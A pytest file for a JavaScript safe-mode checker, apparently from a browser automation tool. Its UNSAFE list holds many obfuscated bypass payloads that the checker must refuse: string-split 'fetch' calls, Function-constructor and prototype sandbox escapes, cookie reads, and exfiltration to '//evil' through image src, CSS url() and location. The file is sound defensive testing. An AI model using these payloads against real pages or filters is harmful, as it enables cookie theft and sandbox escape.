"""Safe mode: what only looks passes, what could do more is refused, however it is written."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clz_core.errors import ClzError
from clz_native.safe_eval import check_expression

HARMLESS = r"""
1 + 1
document.title
document.querySelector("#a").textContent
document.querySelectorAll("a").length
[...document.querySelectorAll("a")].map(a => a.href)
Array.from(document.querySelectorAll("li"), li => li.innerText.trim())
[...document.images].filter(img => !img.complete).map(i => ({src: i.src, w: i.naturalWidth}))
JSON.stringify({a: [1, 2, 3]})
window.innerWidth
window.app.state.user
window.app?.version ?? "none"
app.items.at(-1).name
location.href
document.location.pathname + "?"
window.location.search
`${location.host}/${document.title}`
String(location.href).split("/").pop()
navigator.userAgent
history.length
document.querySelector("h1").getBoundingClientRect().top
document.body.scrollHeight
getComputedStyle(document.body).color
document.querySelector("input").value
document.documentElement.outerHTML.length
document.body.innerHTML.includes("token")
performance.getEntriesByType("navigation").at(0).duration
performance.timing.loadEventEnd - performance.timing.navigationStart
typeof jQuery
typeof window.React !== "undefined"
window === top
(() => { let n = 0; for (const e of document.querySelectorAll("*")) n += 1; return n; })()
(() => { const out = []; for (let i = 0; i < document.links.length; i++) out.push(document.links[i].id); return out })()
(() => { const t = {}; t.href = document.links.item(0).href; t.text = "x"; return t; })()
(() => { const n = Object.create(null); for (const e of document.all) n[e.id] = 1 + (n[e.id] ?? 0); return n })()
Object.entries(document.body.dataset)
Object.keys(window.app)
Object.assign({}, app.settings)
Object.prototype.toString.call([])
({a: 1, "b": 2, [`c`]: 3})
new Map([["a", 1]])
new Set([1, 2]).has(1)
await Promise.resolve(5)
await document.fonts.ready
"a/b/c".replace(/\//g, "-")
/["'`]/.test("x")
"x".match(/[/"]/)
(1 + 2) / 3
[1, 2][0] / 2
"fetch and eval and document.cookie are only words here"
({cookie: 1, fetch: 2})
// fetch("x")
1 /* eval("x") */ + 2
document.querySelector("#a").classList.contains("b")
document.querySelector("#a").getAttribute("src")
document.querySelector("#a").scrollIntoView()
document.querySelector("button").click()
document.querySelector("#a").setAttribute("data-x", "1")
document.querySelector("input").checked = true
document.querySelector("input").value = "Ada"
document.body.style.color = "red"
document.body.scrollTop = document.body.scrollHeight
document.title = document.title + "!"
window.__seen = [1, 2, 3]
var x = 5; x * 2
const {left, width} = document.body.getBoundingClientRect(); left + width
async function f() { return 1 } f()
class A { #x = 1; get x() { return this.#x } } new A().x
new Date(0).toISOString()
try { null.x } catch (e) { e.message }
[3, 1, 2].sort((a, b) => a - b)
document.querySelector("table").rows[0].cells[1].textContent
a = b
Math.max(...[...document.querySelectorAll("h1, h2")].map(h => h.offsetTop))
[..."héé😀"].length
document.querySelector('[data-testid="a"]')?.textContent?.trim()
0.1 + 1e-5 + 0xff + 1_000n
"""

UNSAFE = r"""
fetch("/x")
window.fetch("/x")
window["fetch"]("/x")
window["fe" + "tch"]("/x")
window[`fetch`]("/x")
self["fe" + "tch"]("/x")
globalThis["fe" + "tch"]("/x")
top["fe" + "tch"]("/x")
parent["fe" + "tch"]("/x")
frames["fe" + "tch"]("/x")
frames[0]
this["fe" + "tch"]("/x")
window?.["fe" + "tch"]("/x")
const w = window; w["fe" + "tch"]("/x")
let w; w = window; w["fe" + "tch"]
const [w] = [window]; w
const {w} = {w: window}; w
((w) => w["fe" + "tch"])(window)
(() => window)()["fe" + "tch"]
(() => this)()
(function () { return this })()["fe" + "tch"]
(function () { return this["fe" + "tch"] })()
(0, window)["fe" + "tch"]
(window)["fe" + "tch"]
(true ? window : 0)["fe" + "tch"]
(window || 0)["fe" + "tch"]
[window].at(0)["fe" + "tch"]
window.window["fe" + "tch"]
window.self.top.parent["fe" + "tch"]
window.valueOf()["fe" + "tch"]
document.defaultView["fe" + "tch"]
document["defaultView"].fetch
document["default" + "View"]
const d = document; d["default" + "View"]["fe" + "tch"]
const {defaultView: v} = document; v
const {defaultView} = document; defaultView
const {["default" + "View"]: v} = document
const {"defaultView": v} = document; v
document.body.ownerDocument["default" + "View"]
document.querySelector("iframe").contentWindow["fe" + "tch"]
document.querySelector("iframe").contentWindow.fetch("/x")
event.view["fe" + "tch"]
Object.values(window)
Object.values(document).at(0).replace("//evil")
Object.entries(document.body.parentNode.parentNode)
const d = document; Object.values(d)
Object.values({...document}).at(0).replace("//evil")
Object["val" + "ues"](document)
const O = Object; O.values(document)
const {values} = Object; values(document)
Object.getOwnPropertyDescriptors(Document.prototype)
Object.getOwnPropertyDescriptor(Document.prototype, "coo" + "kie").get.call(document)
const o = {}; o["__lookup" + "Getter__"]
const o = {}; o["__pro" + "to__"] = () => 1; o["constr" + "uctor"]("return fe" + "tch")()
({}).__lookupGetter__("cookie")
Document.prototype.__lookupGetter__("coo" + "kie").call(document)
({__proto__: window})
({"__proto__": app})
({}).__proto__
Reflect.get(window, "fe" + "tch")("/x")
Reflect.apply(a, b, c)
Reflect["get"](document, "coo" + "kie")
new Proxy({}, {})
"".constructor.constructor("return fetch")()
[].constructor.constructor("x")()
(() => {}).constructor("x")()
(async () => {}).constructor("x")()
(() => {})["constructor"]("x")()
(() => {})["construct" + "or"]("x")()
const {constructor: F} = () => {}; F("x")()
const {constructor} = () => {}; constructor("x")()
for (const k of ["constructor"]) (() => {})[k]
Function("return 1")()
new Function("return 1")()
eval("1")
window.eval("1")
(0, eval)("1")
let e = eval; e("1")
import("/x.js")
await import("/x.js")
setTimeout("fetch('/x')", 0)
window.setTimeout(() => 1, 0)
setInterval(f, 1)
requestAnimationFrame(f)
queueMicrotask(f)
document.addEventListener("click", f)
document.body.onclick = () => 1
document.body["onclick"] = () => 1
onerror = () => 1
window.onerror = () => 1
document.cookie
document.cookie = "a=b"
document["cookie"]
document["coo" + "kie"]
document[`cookie`]
document["coo\x6bie"]
document[["cookie"]]
const {cookie} = document; cookie
const {cookie: c} = document; c
({a: {cookie: c}} = {a: document})
localStorage.getItem("a")
window.localStorage
sessionStorage.x
indexedDB.open("a")
caches.keys()
cookieStore.get("a")
navigator.sendBeacon("/x", "y")
navigator["sendBeacon"]("/x")
const n = navigator; n["send" + "Beacon"]
navigator.serviceWorker
navigator.clipboard.readText()
new XMLHttpRequest()
new WebSocket("ws://x")
new EventSource("/x")
new Image().src = "//evil/?" + document.title
new Audio("/x")
new Worker("/x.js")
new SharedWorker("/x.js")
new RTCPeerConnection()
new FontFace("a", "url(/x)")
document.createElement("img")
document.createElement("scr" + "ipt")
document.createElement("script").textContent = "1"
document.body.appendChild(x)
document.body.append(x)
document.body.innerHTML = "<img src=//evil>"
document.body.insertAdjacentHTML("beforeend", "<img src=//evil>")
document.images[0].src = "//evil/?" + document.title
document.images[0]["src"] = "//evil"
document.images[0]["s" + "rc"] = "//evil"
document.images[0].setAttribute("src", "//evil")
document.images[0].setAttribute("s" + "rc", "//evil")
document.images[0].setAttribute("onclick", "x")
const s = document.body.setAttribute; s.call(document.images[0], "src", "//evil")
document.images[0].attributes.src.value = "//evil/?" + document.title
document.images[0].getAttributeNode("src").nodeValue = x
[document.images[0].src] = ["//evil"]
({a: document.images[0].src} = {a: "//evil"})
[...document.images[0].src] = x
for (document.images[0].src of ["//evil"]) ;
for (document.images[0].src in {"//evil": 1}) ;
Object.assign(document.images[0], {src: "//evil"})
Object.assign(document.body.style, {background: "url(//evil)"})
const f = Object.assign; f(document.images[0], {src: "//evil"})
document.body.style.background = "url(//evil/?" + document.title + ")"
document.body.style.background = "url(//evil)"
document.body.style.cssText = "background: url(//evil)"
document.body.style.setProperty("background", "url(//evil)")
document.body.style.setProperty("background", x)
document.querySelector("style").textContent = css
document.querySelector("style").firstChild.appendData(css)
document.styleSheets[0].insertRule("a {}")
document.body.animate([], 1)
location = "//evil"
location.href = "//evil"
window.location = "//evil"
document.location = "//evil"
document.location.href = "//evil"
location.assign("//evil")
location.replace("//evil")
location["rep" + "lace"]("//evil")
const l = location; l.replace("//evil")
const {location: l} = document; l.replace("//evil")
const {location: l} = window
f(location)
location.reload()
history.back()
history.pushState({}, "", "/x")
window.open("//evil")
open("//evil")
const o = document.open; o.call(document, "//evil", "", "")
document.forms[0].submit()
document.forms[0].requestSubmit()
document.forms[0].action = "//evil"
HTMLFormElement.prototype.submit.call(document.forms[0])
document.write("<img src=//evil>")
document.execCommand("insertHTML", false, "<img src=//evil>")
document.createRange().createContextualFragment("<img>")
window.name = document.title
parent.postMessage("x", "*")
new BroadcastChannel("x")
with (window) { x }
\u0066etch("/x")
window.\u0066etch("/x")
fetch /* a */ ("/x")
f\u0065tch`x`
browser.runtime.sendMessage("x")
chrome.storage.local.get()
clzHolder.engine
window.wrappedJSObject
alert(1)
prompt("x")
(function f() { return f.caller })()
arguments.callee
for (const k in document) document[k]
const k = "cookie"; document[k]
let k = 0; k = "cookie"; document[k]
let k = 0; k += "cookie"; document[k]
let k = 0; ({k} = {k: "cookie"}); document[k]
let k = 0; [k] = ["cookie"]; document[k]
let k = 0; for (k of ["cookie"]) document[k]
let k = 0; ((k) => document[k])("cookie")
let k = 0; (k => document[k])("cookie")
let k = 0; try { throw "cookie" } catch (k) { document[k] }
document[{length: "cookie"}.length]
document[{toString: () => "cookie"}]
document[(1, "cookie")]
document[true ? "cookie" : 0]
document["cook" + 1]
const o = Object.create(null); const o2 = {}; o2[x]
let o = Object.create(null); o = document; o["coo" + "kie"]
document.querySelectorAll("a")[Symbol.iterator]
1 <!-- `\nfetch('/') <!-- `
a --> b
"""

# Source in which the parser and the browser could see different things.
AMBIGUOUS = [
    "1 <!-- `\nfetch('/') <!-- `",
    "1\n--> fetch",
    "a\u2028b",
    "// x\u2028fetch(1)",
    "1 +\u00a01",
    "a\rb",
    "a\x00b",
    "#!x\n1",
    '{} /"/; fetch(1) //"/',
    '({}) /"/; 1 //"/\n+ {} /1',
    'if (x) /"/; 1 //"/',
    'yield /"/; 1 //"/',
    'await /"/; 1 //"/',
    "<b>fetch</b>",
    "x\\u0061",
    "debugger",
    "@a class B {}",
]

BROKEN = ["1 +", "(", "a b c", "1)); fetch('/'); ((2", "}", "`${", '"', "let let = 1 1"]


@pytest.mark.parametrize("source", HARMLESS.strip().splitlines())
def test_what_only_looks_passes(source: str) -> None:
    check_expression(source)


@pytest.mark.parametrize("source", UNSAFE.strip().splitlines())
def test_what_could_do_more_is_refused(source: str) -> None:
    with pytest.raises(ClzError) as caught:
        check_expression(source)
    problem = caught.value
    assert (problem.code, problem.exit_code) == ("UNSAFE_EXPRESSION", 5)
    assert problem.details["what"]
    assert problem.details["reason"] in problem.message
    assert "--unsafe" in problem.hint


@pytest.mark.parametrize("source", AMBIGUOUS)
def test_what_parser_and_browser_could_read_differently_is_refused(source: str) -> None:
    with pytest.raises(ClzError) as caught:
        check_expression(source)
    assert caught.value.code in ("UNSAFE_EXPRESSION", "INVALID_EXPRESSION")


@pytest.mark.parametrize("source", BROKEN)
def test_what_is_no_javascript_is_a_mistake_not_a_danger(source: str) -> None:
    with pytest.raises(ClzError) as caught:
        check_expression(source)
    assert (caught.value.code, caught.value.exit_code) == ("INVALID_EXPRESSION", 2)


def test_the_place_of_what_was_refused_is_named() -> None:
    with pytest.raises(ClzError) as caught:
        check_expression('"ä😀";\nfetch("/x")')
    assert caught.value.details == {
        "what": "fetch",
        "reason": "reaches the network",
        "line": 2,
        "column": 1,
    }


def test_a_deeply_nested_expression_does_not_break_the_check() -> None:
    check_expression("[" * 2000 + "]" * 2000)
    with pytest.raises(ClzError):
        check_expression("(" * 2000 + "fetch" + ")" * 2000)


@given(st.text(max_size=200))
def test_any_text_passes_or_is_refused_with_a_code(source: str) -> None:
    code = None
    try:
        check_expression(source)
    except ClzError as problem:
        code = problem.code
    assert code in (None, "UNSAFE_EXPRESSION", "INVALID_EXPRESSION")
